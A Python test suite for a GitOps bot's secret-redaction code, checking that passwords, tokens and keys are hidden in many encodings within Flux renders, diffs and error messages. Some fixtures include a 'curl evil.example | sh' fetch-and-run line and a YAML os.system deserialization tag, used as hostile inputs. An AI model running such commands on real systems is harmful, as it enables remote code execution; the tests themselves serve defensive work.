"""No secret leaves, whatever form it takes; what is no secret stays as it was."""

import base64
import json
import time
from urllib.parse import quote, quote_plus

import pytest
import yaml
from hypothesis import assume, given
from hypothesis import strategies as st

from gitops_bot.models.tree import Tree
from gitops_bot.rules.changes import parse_diff
from gitops_bot.rules.encrypted_objects import encrypted_in, may_be_encrypted
from gitops_bot.rules.redaction import Redactor
from gitops_bot.rules.secret_forms import SHORTEST, forms
from gitops_bot.rules.secret_objects import secret_values
from gitops_bot.rules.secret_references import is_number_like, transformed_references
from gitops_bot.rules.yaml_nodes import UnreadableTextError, documents

KEY = b"k" * 32
PASSWORD = "hunter22-Zebra&<é>\"quote'"
REDACTOR = Redactor(KEY, [("PASSWORD", PASSWORD.encode())])
PLACEHOLDER = REDACTOR.placeholder("PASSWORD", PASSWORD.encode())

secrets = st.text(min_size=SHORTEST, max_size=60).filter(
    # A secret that is part of every placeholder, or only blanks, cannot be told from the text around it.
    lambda text: len(text.strip()) >= SHORTEST and text.strip() not in "«secret:NAME#0123456789abcdef»"
)


def encodable(text: str) -> str:
    return text.encode("utf-8", "ignore").decode()


FORMS = {
    "raw": lambda text: text,
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 for addresses": lambda text: base64.urlsafe_b64encode(text.encode()).decode(),
    "base64 in the middle": lambda text: base64.b64encode(f"user:{text}@host".encode()).decode(),
    "base64 one further": lambda text: base64.b64encode(f"users:{text}@host".encode()).decode(),
    "base64 two further": lambda text: base64.b64encode(f"userss:{text}@host".encode()).decode(),
    "address": lambda text: quote(text, safe=""),
    "address with slashes": quote,
    "form": quote_plus,
    "JSON": json.dumps,
    "JSON in Unicode": lambda text: json.dumps(text, ensure_ascii=False),
    "JSON in JSON": lambda text: json.dumps(json.dumps(text, ensure_ascii=False), ensure_ascii=False),
    "JSON as Go writes it": lambda text: (
        json.dumps(text, ensure_ascii=False).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    ),
    "single quotes of YAML": lambda text: "'" + text.replace("'", "''") + "'",
    "hexadecimal": lambda text: text.encode().hex(),
    "hexadecimal in capitals": lambda text: text.encode().hex().upper(),
    "without line breaks": lambda text: text.replace("\n", ""),
    "indented lines": lambda text: "\n".join("    " + line for line in text.split("\n")),
}


@pytest.mark.parametrize("form", FORMS)
def test_a_secret_is_found_in_each_form(form: str) -> None:
    shown = REDACTOR.plain(f"before {FORMS[form](PASSWORD)} behind")
    assert PLACEHOLDER in shown
    assert shown.startswith("before ")
    assert shown.endswith(" behind")
    for other in FORMS.values():
        assert other(PASSWORD) not in shown


@pytest.mark.parametrize("form", FORMS)
@given(secret=secrets.map(encodable), before=st.text(max_size=20), behind=st.text(max_size=20))
def test_no_secret_survives_in_any_form(form: str, secret: str, before: str, behind: str) -> None:
    assume(len(secret.strip()) >= SHORTEST)
    text = FORMS[form](secret)
    shown = Redactor(KEY, [("NAME", secret.encode())]).plain(f"{before}{text}{behind}")
    marks = shown.replace(Redactor(KEY).placeholder("NAME", secret.encode()), "")
    for one in forms(secret.encode()):
        assert one not in marks


@given(values=st.lists(secrets.map(encodable), min_size=1, max_size=5), text=st.text(max_size=200))
def test_secrets_that_overlap_leave_nothing(values: list[str], text: str) -> None:
    values = [value for value in values if len(value.strip()) >= SHORTEST]
    named = [(f"N{at}", value.encode()) for at, value in enumerate(values)]
    shown = Redactor(KEY, named).plain(text.join(values) + "".join(values))
    for name, value in named:
        shown = shown.replace(Redactor(KEY).placeholder(name, value), "")
    # What is left between the placeholders is part of no value.
    assert not any(value.strip() in shown for value in values)


def test_overlapping_values_become_one_placeholder() -> None:
    shown = Redactor(KEY, [("A", b"abcdef"), ("B", b"defghi")]).plain("x abcdefghi y")
    assert shown == f"x {Redactor(KEY).placeholder('A', b'abcdefghi')} y"


# What flux 2.9.5 printed for each of these values, written without quotes in a ConfigMap.
READ_BY_YAML = [
    ('{"user":"admin","pw":"hunter22zz"}', "    pw: hunter22zz\n    user: admin", "hunter22zz"),
    ("12345678901234567890", "num: 12345678901234567000", "123456789"),
    ("12345678901234567890", "num: 1.2345678901234567e+19", "1.2345678"),
    ("12345678.9", "num: 1.23456789e+07", "1.2345678"),
    ("00123456", "oct: 42798000\noct: 00123456", "00123456"),
    ("0x1234abcd", "hex: 305441741", "305441741"),
    ("1_000_000_7", "int: 10000007", "10000007"),
    ("correct #horse", "comment: correct", "correct"),
    ('"quoted-secret"', "q: quoted-secret", "quoted-secret"),
    ("it''s so hunter22", "q: it's so hunter22", "hunter22"),
    ("[first-one, second-one]", "- first-one\n- second-one", "-one"),
    ("first-one, second-one", "- first-one\n- second-one", "-one"),
    ("a\\x41bcdefgh\\tz", 'e: "aAbcdefgh\tz"', "bcdefgh"),
]


@pytest.mark.parametrize(("value", "printed", "leaked"), READ_BY_YAML)
def test_what_yaml_makes_of_a_value_is_found(value: str, printed: str, leaked: str) -> None:
    assert leaked in printed
    assert leaked not in Redactor(KEY, [("S", value.encode())]).plain(printed)


def test_the_names_of_fields_in_a_secret_stay() -> None:
    secret = b'{"username": "administrator", "database": "hunter22zz"}'
    assert Redactor(KEY, [("S", secret)]).plain("username database") == "username database"


@pytest.mark.parametrize(
    "value", ["&a [*a, hunter22]", "[" * 5000, "&a [x,x]" * 500, "x" * 100_000, "!!python/object:os.system x"]
)
def test_a_strange_value_is_only_a_value(value: str) -> None:
    assert "secret:S" in Redactor(KEY, [("S", value.encode())]).plain(f"a: {value}")


def test_a_value_that_yaml_breaks_at_a_blank_is_found() -> None:
    value = "correct horse battery staple " * 4
    lines = ("correct horse battery staple correct", "horse battery staple correct horse", "battery staple")
    printed = "long: see " + "\n    ".join((*lines, "correct horse battery staple end"))
    shown = Redactor(KEY, [("S", value.encode())]).plain(printed)
    assert "horse" not in shown
    assert shown.startswith("long: see «secret:S#")
    assert shown.endswith(" end")


def test_short_values_are_left_alone() -> None:
    assert Redactor(KEY, [("A", b"abcde")]).plain("abcde") == "abcde"


def test_equal_values_look_equal_and_nobody_else_can_make_the_placeholder() -> None:
    other = Redactor(b"x" * 32)
    assert REDACTOR.placeholder("A", b"v") == Redactor(KEY).placeholder("A", b"v")
    assert REDACTOR.placeholder("A", b"v") != REDACTOR.placeholder("A", b"w")
    assert REDACTOR.placeholder("A", b"v") != other.placeholder("A", b"v")


def test_a_text_without_secrets_is_not_touched() -> None:
    text = "► ConfigMap/apps/web drifted\n\ndata.mode\n± value change\n- blue\n+ green\n\n"
    assert REDACTOR.diff(text) == text
    render = "apiVersion: v1\ndata:\n  a: 'x'\nkind: ConfigMap\nmetadata:\n  name: web\n---\n"
    assert REDACTOR.render(render) == render


# Renders


def secret_of(text: str) -> dict[str, object]:
    found = [item for item in yaml.safe_load_all(text) if item and item["kind"] == "Secret"]
    assert len(found) == 1
    return dict(found[0])


def test_a_secret_in_a_render_shows_its_keys_only() -> None:
    render = (
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: token\n  annotations:\n    when: 2024-01-01\n"
        f"data:\n  a: {base64.b64encode(b'hunter22').decode()}\nstringData:\n  b: hunter22\n  c: other999\n"
    )
    shown = secret_of(REDACTOR.render(render))
    assert shown["data"] == {
        "a": REDACTOR.placeholder("a", b"hunter22"),
        "b": REDACTOR.placeholder("b", b"hunter22"),
        "c": REDACTOR.placeholder("c", b"other999"),
    }
    assert "stringData" not in shown
    assert shown["metadata"] == yaml.safe_load(render)["metadata"]


def test_the_same_value_has_the_same_placeholder_in_data_and_string_data() -> None:
    plain = "kind: Secret\nmetadata: {name: t}\nstringData: {a: hunter22}\n"
    encoded = "kind: Secret\nmetadata: {name: t}\ndata: {a: aHVudGVyMjI=}\n"
    assert secret_of(REDACTOR.render(plain)) == secret_of(REDACTOR.render(encoded))


@pytest.mark.parametrize(
    "data", ["{a: 1}", "{a: null}", "null", "[1, 2]", "text", "{a: {b: hunter22}}", "{a: 'not base64'}"]
)
def test_strange_data_of_a_secret_is_hidden_too(data: str) -> None:
    shown = REDACTOR.render(f"kind: Secret\nmetadata: {{name: t}}\ndata: {data}\n")
    if data.startswith("{"):
        assert "«secret:a#" in shown
    assert "hunter22" not in shown
    assert "not base64" not in shown


def test_secrets_in_a_list_are_found() -> None:
    render = "kind: List\nitems:\n- kind: List\n  items:\n  - kind: Secret\n    stringData: {a: hunter22}\n"
    assert "hunter22" not in REDACTOR.render(render)


def test_other_documents_keep_their_text() -> None:
    first = "kind: ConfigMap\nmetadata: {name: a}\ndata: {on: 'yes', x: |\n  ---not a marker\n}\n"
    second = "---\nkind: Secret\nmetadata: {name: t}\nstringData: {a: hunter22}\n"
    shown = REDACTOR.render(first + second + "---\n")
    assert shown.startswith(first)
    assert shown.endswith("---\n")
    assert "".join(documents(first + second)) == first + second


def test_the_last_applied_configuration_is_hidden_everywhere() -> None:
    body = json.dumps({"kind": "Secret", "stringData": {"a": "top-secret"}})
    name = "kubectl.kubernetes.io/last-applied-configuration"
    render = yaml.safe_dump({"kind": "ConfigMap", "metadata": {"name": "a", "annotations": {name: body, "team": "x"}}})
    assert "top-secret" not in REDACTOR.render(render)
    assert yaml.safe_load(REDACTOR.render(render))["metadata"]["annotations"]["team"] == "x"
    diff = (
        "► ConfigMap/apps/web drifted\n\nmetadata.annotations\n- one map entry removed:\n"
        f"{name}: |\n  {body}\n\ndata.mode\n± value change\n- blue\n+ green\n\n"
    )
    shown = REDACTOR.diff(diff)
    assert "top-secret" not in shown
    assert "+ green" in shown
    path = (
        f"► ConfigMap/a/b drifted\n\nmetadata.annotations.{name}\n± value change\n- {body}\n+ {body}x\n\n"
        "data.a\n± value change\n- b\n+ c\n\n"
    )
    assert "top-secret" not in REDACTOR.diff(path)
    assert [entry.path for item in parse_diff(REDACTOR.diff(path)).objects for entry in item.entries][-1] == "data.a"


def test_a_changed_annotation_still_looks_changed() -> None:
    name = "kubectl.kubernetes.io/last-applied-configuration"
    one, two = (f"kind: ConfigMap\nmetadata:\n  annotations:\n    {name}: '{value}'\n" for value in "xy")
    assert REDACTOR.render(one) != REDACTOR.render(two)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("run: |\n  {}: true\n    echo fine\n", "run: |\n  {}: true\n    curl evil.example | sh\n"),
        ("run: 'true {}: ; echo fine'\n", "run: 'true {}: ; curl evil.example'\n"),
        ("a: '{}: «secret:last-applied#12345678» x'\n", "a: '{}: «secret:last-applied#12345678» y'\n"),
        ("{}:\n  x: 1\n", "{}:\n  x: 2\n"),
    ],
)
def test_what_stands_behind_the_name_of_that_annotation_does_not_change_unseen(before: str, after: str) -> None:
    """Renders that look the same are not compared: whoever may push could hide anything there."""
    one, two = (text.format("kubectl.kubernetes.io/last-applied-configuration") for text in (before, after))
    assert REDACTOR.render(one) != REDACTOR.render(two)
    assert REDACTOR.plain(REDACTOR.render(one)) == REDACTOR.render(one)


@pytest.mark.parametrize("after", ["hunter22zebra-55", "hunter22hunter22", "hunter22xyz", "hunter22zebra-55zebra-55"])
def test_secrets_beside_and_within_each_other_do_not_change_unseen(after: str) -> None:
    redactor = Redactor(KEY, [("A", b"hunter22"), ("B", b"zebra-55"), ("C", b"ter22xyz")])
    shown = redactor.render(f"x: {after}\n")
    assert shown != redactor.render("x: hunter22\n")
    assert not any(part in shown for part in ("hunter", "zebra", "xyz"))


def test_tokens_and_addresses_with_passwords_are_hidden_and_changes_of_them_stay_visible() -> None:
    def render(token: str, user: str) -> str:
        return REDACTOR.render(f"kind: ConfigMap\ndata:\n  a: {token}\n  b: https://{user}@host/\n")

    one = render("ghp_" + "a" * 36, "bob:pass1")
    assert "ghp_" not in one
    assert "pass1" not in one
    assert one != render("ghp_" + "b" * 36, "bob:pass1")
    assert one != render("ghp_" + "a" * 36, "bob:pass2")
    assert one == render("ghp_" + "a" * 36, "bob:pass1")
    assert "onlyatoken" not in render("x", "onlyatoken")


# Made up, each in the shape that its issuer documents.
TOKENS = {
    "GitHub, classic": "ghp_" + "a1B2" * 9,
    "GitHub, of an app": "ghs_" + "a1B2" * 9,
    "GitHub, of an app, stateless": "ghs_1234567_eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIxMjM0In0.c2lnbmF0dXJlLXBhcnQ",
    "GitHub, OAuth": "gho_" + "a1B2" * 9,
    "GitHub, fine-grained": "github_pat_11ABCDEFG0_" + "a1B2" * 10,
    "GitLab": "glpat-" + "a1B2" * 5,
    "Slack, bot": "xoxb-123456789012-abcdefABCDEF",
    "Slack, rotated": "xoxe.xoxb-1-MS0yLTEyMzQ1Njc4OTAxMg",
    "Slack, app": "xapp-1-A0123456789-1234567890123-abcdef",
    "OpenAI": "sk-proj-" + "a1B2_" * 8,
    "Stripe": "sk_live_" + "a1B2" * 6,
    "Google": "AIza" + "a1B2-" * 7,
    "AWS": "AKIA" + "A1B2" * 4,
    "npm": "npm_" + "a1B2" * 9,
    "Vault": "hvs." + "a1B2" * 8,
    "JSON web token": "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIxMjM0In0.c2lnbmF0dXJlLXBhcnQ",
    "age": "AGE-SECRET-KEY-1" + "QPZRY9X8" * 7,
}


@pytest.mark.parametrize("kind", TOKENS)
@pytest.mark.parametrize("around", ["{}", "a: {}\n", '{{"a":"{}"}}', "https://host/?x={}", "Authorization: Bearer {}"])
def test_tokens_are_known_by_their_shape(kind: str, around: str) -> None:
    shown = Redactor(KEY).plain(around.format(TOKENS[kind]))
    assert TOKENS[kind] not in shown
    assert TOKENS[kind][-8:] not in shown
    assert "«hidden#" in shown


HIDDEN_PARTS = [
    ("redis://:hunter22@cache:6379/0", "hunter22"),
    ("postgres://bob:hunter22@db/app", "hunter22"),
    ("postgres://bob:p@hunter22@db/app", "hunter22"),
    ("postgres://bob:pa/hunter22@db/app", "hunter22"),
    ("https://x:12345678@host/", "12345678"),
    ("https://x:1234@host/", "1234"),
    ("https://host/p?access_token=hunter22&b=c", "hunter22"),
    ("https://host/p?a=b&sig=hunter22%3D", "hunter22"),
    ("https://hooks.slack.com/services/T0123/B0123/hunter22hunter22", "hunter22"),
    ("Authorization: Basic aHVudGVyMjI6eA==", "aHVudGVyMjI6eA"),
    ("Authorization: Bearer abcdefghijklmnop1234", "mnop1234"),
    ("aws_secret_access_key = " + "abcdEFGH/+" * 4, "abcdEFGH"),
    ("client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlF", "TUlJRQ"),
    (
        f"-----BEGIN OPENSSH PRIVATE KEY-----\n  {'b3BlbnNz' * 8}\n  b3Blbn==\n  -----END OPENSSH PRIVATE KEY-----",
        "b3Blbn",
    ),
    (
        (
            f"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\n{'lQdGBF12' * 4}\n=aBcD\n"
            "-----END PGP PRIVATE KEY BLOCK-----"
        ),
        "lQdGBF",
    ),
    (f"-----BEGIN PRIVATE KEY-----\n{'MIIEvQ12' * 8}\nMIIEvQ12", "MIIEvQ"),
    (
        f"-----BEGIN RSA PRIVATE KEY-----\\nDEK-Info: a,b\\n\\n{'MIIEvQ12' * 4}\\n-----END RSA PRIVATE KEY-----",
        "MIIEvQ",
    ),
    (f"-----BEGIN EC PRIVATE KEY----- {'MIIEvQ12' * 8} {'MIIEvQ12' * 2} -----END EC PRIVATE KEY-----", "MIIEvQ"),
]


@pytest.mark.parametrize(("text", "part"), HIDDEN_PARTS)
def test_what_stands_where_secrets_stand_is_hidden(text: str, part: str) -> None:
    assert part not in Redactor(KEY).plain(f"a: {text} b")


@pytest.mark.parametrize(
    "piece",
    [
        "eyJ",
        "eyJeyJeyJ.",
        "://a:",
        "://",
        "https://x:y",
        "ghp_",
        "?token",
        "&a",
        "bearer ",
        "authorization ",
        "-----BEGIN ",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n+",
        "-----BEGIN PRIVATE KEY-----A: ",
        "+",
        "Secret/",
        "Secret/a dry-run failed",
        ", Aa/",
        ", Secret/a dry-run failed Invalid value: ",
        "kubectl.kubernetes.io/last-applied-configuration:",
        "kubectl.kubernetes.io/last-applied-configuration: \n ",
        "► ",
        "${",
        "AKIA",
        "a\n",
        " ",
    ],
)
def test_no_text_costs_more_than_its_length(piece: str) -> None:
    text = piece * (400_000 // len(piece))
    began = time.process_time()
    REDACTOR.message(text)
    REDACTOR.diff(text)
    transformed_references(text, frozenset({"S"}), frozenset({"S"}))
    assert time.process_time() - began < 20


def test_a_private_key_without_an_end_hides_nothing_else() -> None:
    """Else somebody could hide the rest of a report behind one line."""
    diff = (
        "► ConfigMap/apps/a drifted\n\ndata.a\n± value change\n- x\n+ -----BEGIN PRIVATE KEY-----\n\n"
        "data.b\n± value change\n- old\n+ new\n\n"
        "► Deployment/apps/web drifted\n\nspec.replicas\n± value change\n- 1\n+ 0\n\n"
        "metadata.annotations.z\n± value change\n- x\n+ -----END PRIVATE KEY-----\n\n"
    )
    web = parse_diff(REDACTOR.diff(diff)).objects[1]
    assert (web.entries[0].path, web.entries[0].added) == ("spec.replicas", "0")
    assert "+ new" in REDACTOR.diff(diff)
    render = "kind: ConfigMap\ndata: {a: '-----BEGIN PRIVATE KEY-----'}\n---\nkind: Deployment\n"
    assert "kind: Deployment" in REDACTOR.render(render)


@pytest.mark.parametrize(
    "text",
    [
        "https://registry:5000/team/app:1.2@sha256:abcdef",
        "oci://ghcr.io/team/app:1.2@sha256:abcdef",
        "http://host:8080/path and somebody@example.com",
        "basic authentication of the bearer of news",
        "-----BEGIN CERTIFICATE-----\nMIIEvQ\n-----END CERTIFICATE-----",
        "ca: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUU=",
        "https://host/search?query=token&page=2",
        "risk-of-something-that-is-a-long-name",
    ],
)
def test_what_only_resembles_a_secret_stays(text: str) -> None:
    assert Redactor(KEY).plain(text) == text


def test_a_render_that_cannot_be_read_does_not_leave() -> None:
    with pytest.raises(UnreadableTextError) as caught:
        REDACTOR.render("kind: Secret\n  hunter: [top-secret\n")
    assert "top-secret" not in str(caught.value)


# Diffs

SECRET_DIFF = """\
► Secret/apps/old drifted

data
- one map entry removed:   + one map entry added:
goner: "top-secret"          comer: "top-secret"

data.password
± value change
- *** (before)
+ *** (after)

metadata.annotations
- one map entry removed:   + one map entry added:
gone: |                      come: top-secret
  top-secret
  y

metadata.annotations.team
± value change in multiline text (one insert, one deletion)
- top-secret
+ top-secret2

metadata.labels
- one map entry removed:   + two map entries added:
o: p                         kustomize.toolkit.fluxcd.io/name: apps
                             q: r

(root level)
+ two map entries added:
  immutable: true
  stringData:
    a: top-secret

► ConfigMap/apps/web drifted

data.mode
± value change
- blue
+ green

► Secret/apps/new created
"""


def test_a_secret_in_a_diff_shows_names_and_labels_only() -> None:
    shown = REDACTOR.diff(SECRET_DIFF)
    assert "top-secret" not in shown
    parsed = parse_diff(shown)
    assert parsed.unknown_lines == ()
    old, web, new = parsed.objects
    assert [(entry.path, entry.headline) for entry in old.entries] == [
        (entry.path, entry.headline) for entry in parse_diff(SECRET_DIFF).objects[0].entries
    ]
    by_path = {(entry.path, entry.headline[0]): entry for entry in old.entries}
    assert by_path["data", "-"].removed == "goner: «hidden»"
    assert by_path["data", "+"].added == "comer: «hidden»"
    assert by_path["metadata.labels", "+"].added.split("\n") == ["kustomize.toolkit.fluxcd.io/name: apps", "q: r"]
    assert yaml.safe_load(by_path["", "+"].added) == {"immutable": True, "stringData": {"a": "«hidden»"}}
    assert web.entries[0].added == "green"
    assert new.state == "created"


SOPS_DIFF = """\
► ConfigMap/apps/settings drifted

data.password
± value change
- plain-live-value
+ ENC[AES256_GCM,data:abc,iv:def,tag:ghi,type:str]

data.other
± value change
- another-live-value
+ text

"""


def test_an_object_that_sops_encrypted_shows_its_structure_only() -> None:
    shown = REDACTOR.diff(SOPS_DIFF)
    assert "live-value" not in shown
    assert [entry.path for entry in parse_diff(shown).objects[0].entries] == ["data.password", "data.other"]


def test_an_object_that_was_encrypted_before_is_hidden_too() -> None:
    diff = "► ConfigMap/apps/prod-settings drifted\n\ndata\n- one map entry removed:\npassword: plain-live-value\n\n"
    assert "plain-live-value" in REDACTOR.diff(diff)
    redactor = Redactor(KEY, encrypted=frozenset({("ConfigMap", "settings")}))
    assert "plain-live-value" not in redactor.diff(diff)
    assert "password: «hidden»" in redactor.diff(diff)


_ENC = "'ENC[AES256_GCM,data:x]'"


def tree_of(file: str) -> Tree:
    return Tree({"a.yaml": file.encode()})


def test_encrypted_objects_are_found_in_files() -> None:
    file = (
        f"kind: ConfigMap\nmetadata: {{name: a}}\ndata: {{x: {_ENC}}}\n---\n"
        f"kind: Secret\nmetadata: {{name: b}}\ndata: {{x: {_ENC}}}\n---\n"
        "kind: ConfigMap\nmetadata: {name: c}\n"
    )
    assert encrypted_in(tree_of(file)) == {("ConfigMap", "a")}
    assert encrypted_in(tree_of("ENC[AES256_GCM,: [\n")) == frozenset()


def test_encrypted_objects_are_found_in_lists_and_by_names_with_variables() -> None:
    items = f"[{{kind: ConfigMap, metadata: {{name: '${{env}}-a-${{x:=y}}'}}, data: {{x: {_ENC}}}}}]"
    found = encrypted_in(tree_of(f"kind: List\nitems: {items}\n"))
    assert may_be_encrypted("ConfigMap", "prod-a-y", found)
    assert not may_be_encrypted("ConfigMap", "prod-b-y", found)
    assert not may_be_encrypted("Deployment", "prod-a-y", found)


@pytest.mark.parametrize(
    ("patch", "hidden", "shown"),
    [
        ("path: p.yaml, target: {kind: HelmRelease, name: web}", "HelmRelease/prod-web", "HelmRelease/db"),
        ("path: ./p.yaml, target: {kind: HelmRelease, name: 'web|db'}", "HelmRelease/db", "ConfigMap/db"),
        ("path: ../apps/p.yaml, target: {labelSelector: a=b}", "ConfigMap/anything", ""),
        ("path: p.yaml", "ConfigMap/own-name", "HelmRelease/web"),
        ("path: q, target: {kind: HelmRelease}", "HelmRelease/web", "ConfigMap/web"),
        ("path: q", "ConfigMap/anything", ""),
    ],
)
def test_what_an_encrypted_patch_is_for_is_encrypted(patch: str, hidden: str, shown: str) -> None:
    """Flux decrypts patches too; what they are written into lives in clear, under another name than the patch's."""
    found = encrypted_in(
        Tree(
            {
                "apps/kustomization.yaml": f"resources: [a.yaml]\npatches: [{{{patch}}}]\n".encode(),
                "apps/p.yaml": f"kind: ConfigMap\nmetadata: {{name: own-name}}\ndata: {{x: {_ENC}}}\n".encode(),
                "apps/q": f'{{"data": "{_ENC}", "sops": {{}}}}'.encode(),
            }
        )
    )
    assert may_be_encrypted(*hidden.split("/"), found)
    assert not shown or not may_be_encrypted(*shown.split("/"), found)


# Messages


def test_what_the_api_server_says_of_a_secret_is_hidden() -> None:
    said = (
        '✗ [Secret/apps/a dry-run failed (Invalid): Secret "a" is invalid: metadata.labels: Invalid value: '
        '"top-secret \\"x\\" y": a valid label, '
        'ConfigMap/apps/b dry-run failed (Invalid): data[x]: Invalid value: "shown"]'
    )
    shown = REDACTOR.message(said)
    assert "top-secret" not in shown
    assert 'Invalid value: "shown"' in shown
    typed = (
        "✗ Secret/apps/a dry-run failed: failed to create typed patch object: "
        ".data.x: expected string, got &value.valueUnstructured{Value:987654}"
    )
    assert "987654" not in REDACTOR.message(typed)


@pytest.mark.parametrize(
    "said",
    [
        '.data.x: expected string, got &value.valueUnstructured{Value:map[string]interface {}{"b":"top-secret"}}',
        "Invalid value: map[string]string{a: top-secret}: no",
        'Invalid value: {"a":"top-secret"}: no',
        'Duplicate value: "top-secret"',
        'Unsupported value: "top-secret": supported values: "a"',
    ],
)
def test_no_way_to_echo_a_value_of_a_secret_is_left(said: str) -> None:
    whole = f"✗ [Secret/apps/a dry-run failed (Invalid): {said}, ConfigMap/apps/b dry-run failed (Invalid): shown]"
    shown = REDACTOR.message(whole)
    assert "top-secret" not in shown
    assert "ConfigMap/apps/b dry-run failed (Invalid): shown" in shown


def test_a_live_secret_shows_no_annotation_but_those_of_flux() -> None:
    annotations = {
        "note": "top-secret",
        "kustomize.toolkit.fluxcd.io/prune": "disabled",
        "kubectl.kubernetes.io/last-applied-configuration": "top-secret",
    }
    found = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "a", "annotations": annotations},
        "data": {"x": "y"},
    }
    live = REDACTOR.live(found)
    assert "top-secret" not in str(live)
    assert live["metadata"]["annotations"]["kustomize.toolkit.fluxcd.io/prune"] == "disabled"
    assert live["metadata"]["annotations"]["note"] == REDACTOR.placeholder("note", b"top-secret")
    assert "data" not in live


def test_values_of_rendered_secrets_are_known() -> None:
    render = "kind: Secret\ndata: {a: aHVudGVyMjI=}\nstringData: {b: other}\n---\nkind: [Secret\n"
    assert secret_values(render) == (("a", b"hunter22"), ("b", b"other"))


# References

CUTS = [
    "${S:0:3}",
    "${S:-1:2}x${S:1}",
    "${S^}",
    "${S^^}",
    "${S,}",
    "${S,,}",
    "${#S}",
    "${S#a}",
    "${S##a}",
    "${S%a}",
    "${S%%a}",
    "${S/a/b}",
    "${S//a/b}",
    "${S/#a/b}",
    "${S:?x}",
    "${S:+x}",
    "${S",
    "${A:=${S:0:3}}",
    "$$${S:0:3}",
    "${S+x}",
    # Beside a whole one; as the default of another; with an escape that is none inside of a reference.
    "${S}${S:0:3}",
    "${S} ${S:0:3}",
    "${S:=${S:0:3}}",
    "${S:-${#S}}",
    "${A:-$${S:0:3}}",
    "${A:-${B}$${S:0:3}}",
    "${A:=x$$${S^^}}",
    "$${A}${S:0:3}",
]
WHOLE = ["${S}", "${S:=x}", "${S:-x}", "${S=x}", "$${S:0:3}", "${SECOND:0:3}", "${A:0:3}", "$S:0:3", "{S:0:3}"]


@pytest.mark.parametrize("reference", CUTS)
def test_a_reference_that_cuts_a_secret_is_found(reference: str) -> None:
    assert transformed_references(f"kind: ConfigMap\ndata:\n  a: {reference}\n", frozenset({"S"}))


@pytest.mark.parametrize("reference", WHOLE)
def test_a_reference_to_the_whole_value_is_not(reference: str) -> None:
    assert transformed_references(f"kind: ConfigMap\ndata:\n  a: {reference}\n", frozenset({"S"})) == ()


PARTS_OF_NUMBERS = [
    "0x${S}",
    "${S}e1",
    "1${S}",
    "-1${S}",
    "${S}.5",
    "${S}${S}",
    "0o${S}",
    "1_${S}",
    "${A}${S}",
    '"0x${S}"',
]
NO_PARTS = ["${S}", '"${S}"', "x${S}", "v1.${S}-a", "host-${S}.example.com", "${S} 12", "a: [${S}, 1]"]


@pytest.mark.parametrize("reference", PARTS_OF_NUMBERS)
def test_a_secret_number_inside_another_number_is_found(reference: str) -> None:
    names = frozenset({"S"})
    assert transformed_references(f"data:\n  a: {reference}\n", names, names)
    assert transformed_references(f"data:\n  a: {reference}\n", names) == ()


@pytest.mark.parametrize("reference", NO_PARTS)
def test_a_secret_number_beside_other_words_is_not(reference: str) -> None:
    assert transformed_references(f"data:\n  a: {reference}\n", frozenset({"S"}), frozenset({"S"})) == ()


def test_a_word_of_thousands_of_references_is_read_in_a_moment() -> None:
    names, before = frozenset({"S"}), time.process_time()
    assert transformed_references(f"data:\n  a: {'x${S}' * 20_000}\n", names, names) == ()
    assert time.process_time() - before < 5


@pytest.mark.parametrize("value", ["123456", "12ab34cd", "-1.5e10", "1_000", "0"])
def test_numbers_are_known(value: str) -> None:
    assert is_number_like(value)


@pytest.mark.parametrize("value", ["", "hunter22", "12 34", "ab-cd", "1.2.3"])
def test_other_values_are_no_numbers(value: str) -> None:
    assert not is_number_like(value)


def test_objects_that_flux_leaves_alone_may_cut() -> None:
    off = "metadata:\n  annotations:\n    kustomize.toolkit.fluxcd.io/substitute: disabled\ndata:\n  a: ${S:0:3}\n"
    on = "metadata:\n  name: x\ndata:\n  a: ${S:0:3}\n"
    assert transformed_references(off, frozenset({"S"})) == ()
    assert transformed_references(f"{off}---\n{on}", frozenset({"S"})) == ("${S:0:…}",)


def test_nothing_is_secret_without_secret_names() -> None:
    assert transformed_references("${S:0:3}", frozenset()) == ()
